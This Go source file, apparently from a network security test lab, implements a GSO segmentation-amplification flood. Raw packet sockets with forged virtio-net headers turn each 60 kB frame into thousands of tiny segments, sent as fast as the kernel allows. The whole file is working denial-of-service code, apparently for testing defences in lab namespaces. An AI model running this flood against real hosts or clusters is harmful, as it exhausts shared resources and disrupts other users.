package attack

import (
	"cmp"
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"time"

	"github.com/antrail/antrail/lab"
	"github.com/antrail/antrail/packet"
	"github.com/antrail/antrail/packet/packettest"
	"github.com/antrail/antrail/ports"
	"golang.org/x/sys/unix"
)

// GSO is an attack by frames that ask to be cut into very many segments.
//
// A pod with CAP_NET_RAW writes the virtio-net header of each frame itself
// (PACKET_VNET_HDR, packet(7)). With a segment size of 8, a frame of 60 kB stands
// for 7,500 packets, and costs the pod one system call.
type GSO struct {
	Namespace lab.Namespace // of the sending socket
	Interface string        // in Namespace
	SrcMAC    [6]byte
	DstMAC    [6]byte
	Src, Dst  netip.Addr // of one family
	DstPort   uint16
	TCP       bool          // UDP when false
	Size      int           // payload bytes per segment
	Payload   int           // payload bytes per frame; 0 is the most possible
	Count     int           // frames, at most
	Lasts     time.Duration // at most
}

// GSOSent counts what an attack has sent.
type GSOSent struct {
	Frames, Segments int // accepted by the kernel
	Refused          int // frames that the kernel refused
}

// longestGSO is the payload of a frame if Payload is 0, in bytes. With all headers the
// frame stays below 64 kB.
const longestGSO = 60_000

// Send sends frames as fast as the kernel accepts them, until Count are sent, Lasts has
// passed or ctx ends. The error says why it could not send at all.
func (g *GSO) Send(ctx context.Context) (sent GSOSent, err error) {
	fd, err := g.open()
	if err != nil {
		return sent, fmt.Errorf("raw socket on %s in %s: %w", g.Interface, g.Namespace, err)
	}
	defer unix.Close(fd)
	frame, segments := g.frame()
	end := time.Now().Add(g.Lasts)
	for sent.Frames+sent.Refused < g.Count && ctx.Err() == nil && time.Now().Before(end) {
		switch _, err := unix.Write(fd, frame); err {
		case nil:
			sent.Frames++
			sent.Segments += segments
		case unix.EINVAL, unix.EMSGSIZE:
			return sent, fmt.Errorf("the kernel refuses a frame of %d bytes by %d: %w", len(frame), g.Size, err)
		default:
			sent.Refused++
		}
	}
	return sent, nil
}

// open opens a packet socket whose frames begin with a virtio-net header.
func (g *GSO) open() (fd int, err error) {
	err = g.Namespace.Do(func() error {
		ifi, err := net.InterfaceByName(g.Interface)
		if err != nil {
			return err
		}
		if fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0); err != nil {
			return err
		}
		err = errors.Join(
			unix.SetsockoptInt(fd, unix.SOL_PACKET, unix.PACKET_VNET_HDR, 1),
			unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: ifi.Index}),
		)
		if err != nil {
			unix.Close(fd)
		}
		return err
	})
	return fd, err
}

// frame is the virtio-net header and the frame, and the number of segments that they ask
// for.
func (g *GSO) frame() (b []byte, segments int) {
	n := cmp.Or(g.Payload, longestGSO)
	o := packettest.Options{
		EthSrc: g.SrcMAC, EthDst: g.DstMAC, Src: g.Src, Dst: g.Dst, SrcPort: 47000, DstPort: g.DstPort,
		TCPFlags: packet.TCPAck, Seq: 1, Ack: 1, Payload: make([]byte, n),
	}
	f := packettest.Undone(g.build()(o), g.Size)
	h := make([]byte, ports.VirtioLen)
	ports.PutVirtio(h, f)
	return append(h, f.Bytes()...), (n + g.Size - 1) / g.Size
}

// build makes packets of the attack's family and protocol.
func (g *GSO) build() func(packettest.Options) []byte {
	switch {
	case g.TCP && g.Src.Is4():
		return packettest.TCP4
	case g.TCP:
		return packettest.TCP6
	case g.Src.Is4():
		return packettest.UDP4
	}
	return packettest.UDP6
}
